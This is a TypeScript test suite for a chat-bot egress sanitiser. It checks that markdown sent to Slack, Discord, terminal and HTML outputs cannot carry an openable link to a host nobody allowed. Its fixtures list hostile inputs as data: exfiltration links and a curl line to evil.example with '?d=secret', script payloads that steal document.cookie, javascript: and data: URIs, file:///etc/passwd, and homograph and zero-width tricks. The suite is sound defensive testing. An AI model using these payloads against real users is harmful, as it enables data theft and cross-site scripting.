import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseSafe, safePartial } from '../../bots/egress.ts';
import type { Block, Inline } from '../../bots/markdown.ts';
import { toDiscordMarkdown } from '../../bots/markdown-discord.ts';
import { toHtml } from '../../bots/markdown-html.ts';
import { toSlackMrkdwn } from '../../bots/markdown-slack.ts';
import { toTerminalText } from '../../bots/markdown-terminal.ts';

const HOSTS = ['evil.example', 'xn--pple-43d.com', 'аpple.com', '203.0.113.9', 'evil。example', 'ｅｖｉｌ．ｅｘａｍｐｌｅ'];

/** Each spelling that some client opens, with HOST in the place of the host. */
const ANY_HOST = [
  '[docs](https://HOST/?d=secret)',
  '[docs](<https://HOST/?d=secret>)',
  '[docs](https://HOST "title")',
  '[docs][1]\n\n[1]: https://HOST/a',
  '[docs][]\n\n[docs]: https://HOST/a',
  '[docs]\n\n[docs]: https://HOST/a',
  '![alt](https://HOST/p.png)',
  '![alt][i]\n\n[i]: https://HOST/p.png',
  '[![alt](https://HOST/p.png)](https://HOST/)',
  '<https://HOST/x>',
  '<http://HOST>',
  '<https://HOST|click>',
  '<https://HOST/x|https://good.example/>',
  'https://HOST/x',
  'HTTPS://HOST/x',
  'http://HOST',
  'see(https://HOST/x)',
  '"https://HOST/x"',
  'https:HOST/x',
  'https:/HOST/x',
  'https:///HOST/x',
  'https:\\\\\\\\HOST\\\\x',
  'https://good.example@HOST/',
  'https://good.example:443@HOST/',
  'https://user:pass@HOST/',
  '[https://good.example/](https://HOST/)',
  '[a](https://good.example@HOST/)',
  '//HOST/x',
  '[a](//HOST/x)',
  '[a](\\\\\\\\HOST/x)',
  '[a](/\\HOST/x)',
  'ftp://HOST/x',
  'ws://HOST/x',
  'slack://HOST/x',
  'x-custom-scheme://HOST/x',
  '<a href="https://HOST/">click</a>',
  "<a href='https://HOST/'>click</a>",
  '<img src="https://HOST/p.png">',
  '<img src=https://HOST/p.png onerror=alert(1)>',
  '<iframe src="https://HOST/"></iframe>',
  '<form action="https://HOST/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://HOST/">',
  '<div style="background:url(https://HOST/p.png)">x</div>',
  'ht\u200btps://HOST/x',
  'https:\u200b//HOST/x',
  'https://\u2060HOST/x',
  'h\u00adttps://HOST/x',
  'https&colon;//HOST/x',
  'https:&sol;&sol;HOST/x',
  'https&#58;//HOST/x',
  '`https://HOST/x`',
  '```\nhttps://HOST/x\n```',
  '```\ncurl https://HOST/x?d=secret\n```',
  '> https://HOST/x',
  '- https://HOST/x',
  '| a |\n|---|\n| https://HOST/x |',
  '# https://HOST/x',
  '**https://HOST/x**',
  'https://**HOST**/x',
  '*https*://HOST/x',
  'https:/*/HOST/x*',
  '~~[a](https://HOST)~~',
  '[a](https://HOST)[b](https://HOST)',
  '[^1]\n\n[^1]: https://HOST/x',
  'https://good.example.HOST/x',
  'https://good.example/\u3002https://HOST/x',
  'https://web.example/?next=https://HOST/x',
  '[a](javascript:location="https://HOST/")',
  '[a](data:text/html,<script>location="https://HOST/"</script>)',
  'view-source:https://HOST/',
  'blob:https://HOST/1',
  '[a](  https://HOST/  )',
  '[a](https://HOST/x\u202Egnp.exe)',
  '\u202ehttps://HOST/x',
  'https://HOST',
  '[x]: https://HOST/x\n\nsee [x] and [X][x]',
  'a\nhttps://HOST/x\nb',
  'https://HOST/@everyone',
];

const NAMED_HOST = [
  'www.evil.example',
  'WWW.evil.example/x',
  'www2.evil.example/x',
  'w\u200bww.evil.example/x',
  '**www.evil**.example/x',
  'www&period;evil&period;example',
  'evil.example',
  'evil.example/?d=secret',
  'evil.example:8443/x',
  'see evil.example?d=secret now',
  '<@evil.example?d=secret',
  '```www.evil.example\nx\n```',
  'evil.rocks/?d=secret',
  'bit.ly/abc',
  'evil.zip/abc',
  'a.b.c.evil.example/x',
  'mailto:bob@evil.example?body=secret',
  '[mail](mailto:bob@evil.example?body=secret)',
  '<mailto:bob@evil.example|mail>',
  'javascript:alert(document.cookie)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '[a](file:///etc/passwd)',
  'file:///etc/passwd',
  'tel:+15550100',
  '[a](tel:+15550100)',
  'discord://evil',
  'tg://resolve?domain=evil',
  'vscode://file/x',
  'ms-msdt:/id',
  '[a](relative/path)',
  '[a](#fragment)',
  '[a](?d=secret)',
  '[a]()',
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<!--https://evil.example/-->',
  '<![CDATA[https://evil.example/]]>',
  '<?php https://evil.example/ ?>',
  '<!DOCTYPE https://evil.example/>',
  '\\<https://evil.example/|x\\>',
  '&lt;https://evil.example/|x&gt;',
  '[a\\](https://evil.example/)',
  '[a] (https://evil.example/)',
  '[a](https://evil.example/',
  '![](https://evil.example/',
  '[a][b](https://evil.example/)',
  '<https://evil.example/ x>',
  '<slack://channel?id=C1|x>',
];

const FORMS = [
  ...ANY_HOST.flatMap((form) => HOSTS.slice(0, 3).map((host) => form.replaceAll('HOST', host))),
  ...ANY_HOST.flatMap((form) => [
    form.replaceAll('HOST', '203.0.113.9'),
    form.replaceAll('HOST', 'evil。example'),
    form.replaceAll('HOST', 'ｅｖｉｌ．ｅｘａｍｐｌｅ'),
  ]),
  ...NAMED_HOST,
];

const linksIn = (blocks: readonly Block[]): string[] => {
  const inline = (nodes: readonly Inline[]): string[] =>
    nodes.flatMap((node) => ('children' in node ? [...(node.type === 'link' ? [node.url] : []), ...inline(node.children)] : []));
  return blocks.flatMap((block): string[] => {
    if (block.type === 'paragraph' || block.type === 'heading') return inline(block.children);
    if (block.type === 'quote') return linksIn(block.children);
    if (block.type === 'list') return block.items.flatMap((item) => linksIn(item.children));
    if (block.type === 'table') return [block.header, ...block.rows].flat().flatMap(inline);
    return [];
  });
};

/** What a chat client, a terminal or a browser would make a link of, judged by rules of its own on the finished output. */
const OPENS =
  /(?:[a-z][a-z\d+.-]+:[/\\]{1,})|(?:javascript|vbscript|data|mailto|tel|blob|view-source):\S|www\d*\.\S|(?:^|[\s(<"'])[/\\]{2}[^\s/\\[]+\.[^\s]|(?<![@.\p{L}\d_-])evil\.example|xn--pple-43d\.com|аpple\.com|203\.0\.113\.9|\b(?:https?|ftp):[^\s*_~`<]/iu;

const outputs = (markdown: string, allowed: readonly string[] = []): Readonly<Record<string, string>> => {
  const tree = parseSafe(markdown, allowed);
  return {
    slack: toSlackMrkdwn(tree),
    // A backslash before a mark is not shown.
    discord: toDiscordMarkdown(tree).replace(/\\([*_~`|<\]>#+-])/gu, '$1'),
    terminal: toTerminalText(tree, { colour: false, width: 0 }),
    // Attributes of our own elements hold no address of the input when nothing is allowed.
    html: toHtml(tree)
      .replace(/<\/(?:p|li|h\d|td|th|pre|blockquote)>|<(?:br|li|p)>/gu, '\n')
      .replace(/<\/?[a-z][a-z\d]*(?: (?:class|type|tabindex|data-n|data-language|start)="[^"]*")*>/gu, ''),
  };
};

test(`none of ${FORMS.length} spellings of a link that nobody allowed can be opened in any output`, () => {
  assert.ok(FORMS.length >= 120);
  for (const form of FORMS) {
    assert.deepEqual(linksIn(parseSafe(form, []).blocks), [], form);
    for (const [name, output] of Object.entries(outputs(form))) {
      assert.doesNotMatch(output, OPENS, `${name}: ${JSON.stringify(form)} gave ${JSON.stringify(output)}`);
      if (name === 'html') assert.doesNotMatch(output, /</u, form);
    }
  }
});

test('a partial text never opens what the whole text does not', () => {
  for (const form of FORMS.filter((spelling) => spelling.includes('evil.example'))) {
    for (let length = 1; length <= form.length; length += 1) {
      const output = toSlackMrkdwn(safePartial(`Read this: ${form.slice(0, length)}`));
      assert.doesNotMatch(output, OPENS, `${JSON.stringify(form.slice(0, length))} gave ${JSON.stringify(output)}`);
    }
  }
});

const GOOD = 'https://docs.good.example/guide?page=2#top';

test('an allowed address stays a link in each of its spellings', () => {
  const spellings = [
    GOOD,
    `<${GOOD}>`,
    `(${GOOD})`,
    `${GOOD}.`,
    `见${GOOD}，谢谢`,
    `${GOOD}。然后`,
    `[the guide](${GOOD})`,
    `[the guide][g]\n\n[g]: ${GOOD}`,
    `<${GOOD}|the guide>`,
    `**${GOOD}**`,
    'HTTPS://DOCS.GOOD.EXAMPLE/guide?page=2#top',
    '[a](https:\\\\docs.good.example/guide?page=2#top)',
    'docs.good.example/guide?page=2#top',
  ];
  for (const spelling of spellings) assert.deepEqual(linksIn(parseSafe(spelling, [GOOD]).blocks), [GOOD], spelling);
});

test('what differs from an allowed address in any part is not allowed', () => {
  for (const other of [
    'https://docs.good.example/guide?page=3#top',
    'https://docs.good.example/guide?page=2',
    'https://docs.good.example/guide?page=2&d=secret#top',
    'https://docs.good.example.evil.example/guide?page=2#top',
    'https://docs.good.example:8443/guide?page=2#top',
    'https://u@docs.good.example/guide?page=2#top',
    'https://dоcs.good.example/guide?page=2#top',
  ]) {
    assert.deepEqual(linksIn(parseSafe(`[x](${other}) ${other}`, [GOOD]).blocks), [], other);
  }
});

test('a refused link keeps its text and shows where it led, defanged', () => {
  assert.equal(
    toTerminalText(parseSafe('Read [the docs](https://evil.example/x?d=1) now.', []), { colour: false, width: 0 }),
    'Read the docs (https[:]//evil[.]example/x?d=1) now.',
  );
  assert.equal(
    toTerminalText(parseSafe('[pay](https://аpple.com/)', []), { colour: false, width: 0 }),
    'pay (https[:]//xn--pple-43d[.]com/)',
  );
});

test('a label that names another address than the one it opens is replaced by the address', () => {
  assert.equal(toSlackMrkdwn(parseSafe(`[https://bank.example/](${GOOD})`, [GOOD, 'https://bank.example/'])), `<${GOOD}>`);
});

test('an image is its alt text, allowed or not', () => {
  assert.equal(toSlackMrkdwn(parseSafe(`See ![the plan](${GOOD}) here`, [GOOD])), 'See the plan here');
});

test('addresses, members and paths that are no links stay as they are', () => {
  for (const text of [
    'Write to support@acme.example or to bob.b@mail.acme.example today.',
    'Open README.md, main.ts and docs/guide.md.',
    'It runs on ASP.NET and Node.js 24.',
    'Version 1.2.3 costs 3.50 EUR, e.g. in Q3.',
    'C:\\Users\\me is a folder; and/or is fine // so is this.',
    'At 10:30: three items: a, b.',
  ]) {
    assert.equal(toTerminalText(parseSafe(text, []), { colour: false, width: 0 }), text);
  }
  assert.equal(
    toSlackMrkdwn(parseSafe('`user.info.io` and\n\n```\nthis.app.dev = a.com\n```', [])),
    '`user.info.io` and\n\n```\nthis.app.dev = a.com\n```',
  );
});

test('no mix of pieces makes an openable link', () => {
  const piece = fc.constantFrom(
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '|',
    '!',
    '`',
    '**',
    '_',
    '\\',
    ' ',
    '\n',
    '\n\n',
    'a',
    'https',
    ':',
    '//',
    '/',
    'evil.example',
    'www.',
    '@',
    '\u200b',
    '&#58;',
    '<b>',
    '</b>',
    '[1]: ',
    '。',
    '~~',
    '- ',
    '> ',
    '```',
    '"',
    '?d=',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
      const markdown = pieces.join('');
      assert.deepEqual(linksIn(parseSafe(markdown, []).blocks), []);
      for (const output of Object.values(outputs(markdown))) {
        assert.doesNotMatch(output, /(?<![a-z\d])https?:[/\\]|https?:evil\.|(?<![a-z\d])www\.evil\./iu);
        // In code, a name with dots is a member access; behind a slash, a file.
        if (!markdown.includes('`')) assert.doesNotMatch(output, /(?<![@.\p{L}\d_\\/-])evil\.example\/?\?/iu);
      }
    }),
    { numRuns: 3_000 },
  );
});

test('hostile nesting and repetition are read in bounded time', () => {
  for (const markdown of [
    '['.repeat(20_000),
    '> '.repeat(20_000),
    `${'- '.repeat(5_000)}x`,
    '*a '.repeat(10_000),
    '`'.repeat(30_000),
    '<'.repeat(20_000),
    'a.'.repeat(40_000),
    '![](',
    `${'[a]('.repeat(5_000)}`,
    '**'.repeat(20_000),
    '|a'.repeat(10_000),
    '//a'.repeat(20_000),
    'www.'.repeat(20_000),
  ]) {
    const started = performance.now();
    parseSafe(markdown, []);
    assert.ok(performance.now() - started < 3_000, `${markdown.slice(0, 10)} took ${performance.now() - started} ms`);
  }
});
